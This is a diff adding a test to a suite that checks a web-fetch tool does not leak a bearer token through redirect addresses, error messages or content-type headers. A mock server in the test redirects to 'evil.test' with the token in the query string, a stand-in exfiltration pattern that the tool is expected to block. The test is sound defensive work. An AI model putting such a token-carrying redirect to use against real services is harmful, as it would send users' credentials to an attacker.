@@ -455,6 +455,30 @@ describe('a secret in a request for a page', () => {
     expect(sent.slice(0, 2)).toEqual([`Bearer ${value}`, undefined])
   })
 
+  it('does not go on in the address of a redirect, nor in the words of an error [G.01] [G.04]', async () => {
+    const test = await openWeb({
+      ...options((request, response) => {
+        const sent = (request.headers.authorization ?? '').replace('Bearer ', '')
+        if (request.url === '/type')
+          return void response.writeHead(200, { 'content-type': `x/${sent}` }).end()
+        const to = { '/out': `https://evil.test/?t=${sent}`, '/bad': `ftp://a/${sent}` }[request.url ?? '']
+        response.writeHead(302, { location: to ?? '/' }).end()
+      }),
+      rules: (ports) => [{ effect: 'allow', host: 'site.test', ports: [...ports] }],
+    })
+    const headers = { authorization: 'Bearer {{TOKEN}}' }
+    const base = `https://site.test:${test.ports[0]}`
+    const answers = []
+    for (const path of ['/out', '/bad', '/type']) answers.push(await test.fetch(base + path, { headers }))
+    expect(answers).toMatchObject([
+      { error: { code: 'upstream_redirect', message: expect.stringContaining('holds a secret') } },
+      { error: { code: 'upstream_redirect' } },
+      { error: { code: 'unsupported_content' } },
+    ])
+    expect(JSON.stringify([answers, test.records, test.denied])).not.toContain('ghp_')
+    expect(test.records).toHaveLength(3)
+  })
+
   it('is not put into an address, and that is said [G.04]', async () => {
     const test = await openWeb(options(echo))
     const answer = await test.fetch(`https://site.test:${test.ports[0]}/?key={{TOKEN}}`)
